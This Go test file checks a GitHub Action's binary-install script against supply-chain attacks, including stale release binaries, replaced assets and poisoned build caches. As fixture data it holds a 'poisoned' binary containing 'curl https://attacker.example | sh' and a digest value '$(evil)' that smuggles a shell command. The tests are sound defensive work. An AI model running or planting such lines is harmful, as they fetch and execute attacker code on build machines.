package scripts_test

import (
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestAttack_OldReleaseBinaryForNewCode: dist/ stays in the tree after the
// release commit, so a later commit — pinned by SHA, or a v1 alias moved to
// it — carries dist/release-tag and dist/checksums.txt of an older release
// with new code. install-binary used to run the old release binary for it;
// now the release binary is used only when the tree's source digest is
// dist/source-digest, else it builds (or, strict, refuses), and never
// downloads the old binary.
func TestAttack_OldReleaseBinaryForNewCode(t *testing.T) {
	needBash(t)
	good := fakeBinary
	checksums := sha256Hex(good) + "  provenant-linux-amd64\n"
	linux := []string{"RUNNER_OS=Linux", "RUNNER_ARCH=X64"}
	commit := "PROVENANT_ACTION_REF=" + strings.Repeat("ef", 20)
	tests := []struct {
		name    string
		ref     string
		change  func(t *testing.T, root string)
		args    []string
		wantGet string
		want    string // "installed", "fallback" or the refusal
		reason  string
	}{
		{name: "release commit: its own binary", ref: commit, want: "installed", wantGet: "/download/v1.2.3/provenant-linux-amd64"},
		{name: "later commit, one file changed", ref: commit, want: "fallback",
			change: func(t *testing.T, root string) {
				writeFile(t, filepath.Join(root, "main.go"), "package main\n\nfunc main() { steal() }\n", 0o644)
			}, reason: "are not release v1.2.3's source"},
		{name: "moved v1 alias, one file added", ref: "PROVENANT_ACTION_REF=v1", want: "fallback",
			change: func(t *testing.T, root string) {
				writeFile(t, filepath.Join(root, "internal", "new.go"), "package internal\n", 0o644)
			}, reason: "are not release v1.2.3's source"},
		{name: "one file removed", ref: commit, want: "fallback",
			change: func(t *testing.T, root string) { os.Remove(filepath.Join(root, "main.go")) },
			reason: "are not release v1.2.3's source"},
		{name: "a symlink added", ref: commit, want: "fallback",
			change: func(t *testing.T, root string) {
				if err := os.Symlink("/tmp/evil.go", filepath.Join(root, "evil.go")); err != nil {
					// By design: only where the OS refuses symlinks (Windows
					// without developer mode); never on Linux.
					t.Skip(err)
				}
			}, reason: "include a symlink"},
		{name: "release without dist/source-digest", ref: commit, want: "fallback",
			change: func(t *testing.T, root string) { os.Remove(filepath.Join(root, "dist", "source-digest")) },
			reason: "no dist/source-digest"},
		{name: "strict: one file changed is refused", ref: commit, args: []string{"--require-checksum"},
			change: func(t *testing.T, root string) {
				writeFile(t, filepath.Join(root, "main.go"), "package main\n\nfunc main() { steal() }\n", 0o644)
			}, want: "--require-checksum: the files at"},
		{name: "malformed dist/source-digest is refused", ref: commit,
			change: func(t *testing.T, root string) {
				writeFile(t, filepath.Join(root, "dist", "source-digest"), "$(evil)\n", 0o644)
			}, want: "not a sha256"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			rel := &release{assets: map[string]string{"v1.2.3/provenant-linux-amd64": good}}
			srv := httptest.NewServer(rel)
			defer srv.Close()
			root := actionCheckout(t, "v1.2.3", checksums)
			if tc.change != nil {
				tc.change(t, root)
			}
			binDir := filepath.Join(t.TempDir(), "bin")
			env := append([]string{"PROVENANT_RELEASE_URL=" + srv.URL + "/download", tc.ref}, linux...)
			r := runScript(t, root, binDir, env, tc.args...)
			checkRequests(t, rel, tc.wantGet)
			if !strings.Contains(r.stderr, tc.reason) {
				t.Errorf("stderr lacks %q:\n%s", tc.reason, r.stderr)
			}
			switch tc.want {
			case "installed":
				checkInstalled(t, r, "provenant")
			case "fallback":
				checkFallback(t, r, "provenant")
			default:
				checkRefused(t, r, tc.want)
			}
		})
	}
}

// fakeBuildRelease stands in for scripts/build-release in
// `install-binary --require-checksum`: it records its arguments and Go cache
// environment, fails if those caches hold anything (a restored cache), and
// writes $FAKE_BUILT as the one target's binary.
const fakeBuildRelease = `#!/usr/bin/env bash
set -eu
echo "args $* GOCACHE=${GOCACHE:-} GOMODCACHE=${GOMODCACHE:-} GOENV=${GOENV:-}" >> "$BUILD_CALLS"
for d in "${GOCACHE:-}" "${GOMODCACHE:-}"; do
  [[ -n $d ]] || { echo "fake build-release: a Go cache is not set" >&2; exit 3; }
  [[ ! -e $d ]] || [[ -z $(ls -A "$d") ]] || { echo "fake build-release: $d is not empty" >&2; exit 3; }
done
[[ $# -eq 3 ]] || { echo "fake build-release: want VERSION OUTDIR OS/ARCH" >&2; exit 2; }
[[ ${FAIL_BUILD:-} != 1 ]] || exit 1
os=${3%/*} arch=${3#*/}
mkdir -p "$2"
printf '%s' "$FAKE_BUILT" > "$2/provenant-$os-$arch"
`

// TestAttack_CacheRestoredBuildInTheSigningJob: the L3 job used to build
// provenant from source through setup-go's Actions cache, which any job of
// the caller's repository can write, so the caller chose the code that
// holds the signing token. `install-binary --require-checksum` (what
// provenance-l3.yml runs) installs only a binary whose sha256 is the
// committed dist/checksums.txt line: the release asset, or — when the
// release has no asset yet — scripts/build-release's build with empty
// caches of its own, checked the same way. Everything else is refused, and
// it never falls back to a plain build.
func TestAttack_CacheRestoredBuildInTheSigningJob(t *testing.T) {
	needBash(t)
	good := fakeBinary
	poisoned := fakeBinary + "curl https://attacker.example | sh\n"
	checksums := sha256Hex(good) + "  provenant-linux-amd64\n" + sha256Hex(good) + "  provenant-darwin-arm64\n"
	linux := []string{"RUNNER_OS=Linux", "RUNNER_ARCH=X64", "PROVENANT_ACTION_REF=" + strings.Repeat("ab", 20)}
	tests := []struct {
		name           string
		tag, checksums string
		assets         map[string]string
		built          string // what the reproducible build produces
		failBuild      bool
		env            []string
		wantGet        string
		wantBuild      string // in the recorded build-release call; "" none
		want           string // "installed" or the refusal
	}{{
		name: "release asset with the committed checksum", tag: "v1.2.3", checksums: checksums,
		assets: map[string]string{"v1.2.3/provenant-linux-amd64": good}, env: linux,
		wantGet: "/download/v1.2.3/provenant-linux-amd64", want: "installed",
	}, {
		name: "replaced release asset is refused", tag: "v1.2.3", checksums: checksums,
		assets: map[string]string{"v1.2.3/provenant-linux-amd64": poisoned}, env: linux,
		wantGet: "/download/v1.2.3/provenant-linux-amd64", want: "checksum mismatch for provenant-linux-amd64",
	}, {
		name: "no asset yet: reproducible build with the committed checksum", tag: "v1.2.3", checksums: checksums,
		built: good, env: linux, wantGet: "/download/v1.2.3/provenant-linux-amd64",
		wantBuild: "args v1.2.3 ", want: "installed",
	}, {
		name: "no asset yet: a build that differs is refused", tag: "v1.2.3", checksums: checksums,
		built: poisoned, env: linux, wantGet: "/download/v1.2.3/provenant-linux-amd64",
		wantBuild: "args v1.2.3 ", want: "the reproducible build of provenant-linux-amd64 has sha256 " + sha256Hex(poisoned),
	}, {
		name: "no asset yet: a failed build is refused", tag: "v1.2.3", checksums: checksums,
		failBuild: true, env: linux, wantGet: "/download/v1.2.3/provenant-linux-amd64",
		wantBuild: "args v1.2.3 ", want: "building provenant-linux-amd64 of v1.2.3 with scripts/build-release failed",
	}, {
		name: "no dist/checksums.txt is refused, never a plain build", tag: "v1.2.3", env: linux,
		want: "--require-checksum: dist/checksums.txt at",
	}, {
		name: "unreleased commit is refused, never a plain build", checksums: checksums, env: linux,
		want: "--require-checksum: no dist/release-tag",
	}, {
		name: "no checksum line for the platform is refused", tag: "v1.2.3", checksums: checksums,
		env:  []string{"RUNNER_OS=Linux", "RUNNER_ARCH=ARM64", "PROVENANT_ACTION_REF=v1.2.3"},
		want: "has no line for provenant-linux-arm64",
	}, {
		name: "local checkout with no ref is refused", tag: "v1.2.3", checksums: checksums,
		env:  []string{"RUNNER_OS=Linux", "RUNNER_ARCH=X64", "PROVENANT_ACTION_REF="},
		want: "--require-checksum: the action has no ref",
	}}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			rel := &release{assets: tc.assets}
			srv := httptest.NewServer(rel)
			defer srv.Close()
			root := actionTree(t, tc.tag, tc.checksums, map[string]string{"scripts/build-release": fakeBuildRelease})
			binDir := filepath.Join(t.TempDir(), "bin")
			calls := filepath.Join(t.TempDir(), "build-calls")
			env := append([]string{"PROVENANT_RELEASE_URL=" + srv.URL + "/download",
				"BUILD_CALLS=" + calls, "FAKE_BUILT=" + tc.built}, tc.env...)
			if tc.failBuild {
				env = append(env, "FAIL_BUILD=1")
			}
			r := runScript(t, root, binDir, env, "--require-checksum")
			checkRequests(t, rel, tc.wantGet)
			b, _ := os.ReadFile(calls)
			if tc.wantBuild == "" && len(b) != 0 {
				t.Errorf("built: %s", b)
			}
			if tc.wantBuild != "" {
				if !strings.Contains(string(b), tc.wantBuild) || !strings.Contains(string(b), " linux/amd64 GOCACHE=/") ||
					!strings.Contains(string(b), "GOENV=off") {
					t.Errorf("build-release call %q, want %q, one target, empty caches of its own, GOENV=off", b, tc.wantBuild)
				}
			}
			if r.goCalls != "" {
				t.Errorf("go was called directly (a plain build): %q", r.goCalls)
			}
			if tc.want != "installed" {
				checkRefused(t, r, tc.want)
				return
			}
			checkInstalled(t, r, "provenant")
			if data, _ := os.ReadFile(filepath.Join(binDir, "provenant")); sha256Hex(string(data)) != sha256Hex(good) {
				t.Errorf("installed binary is not the checked one")
			}
		})
	}
}
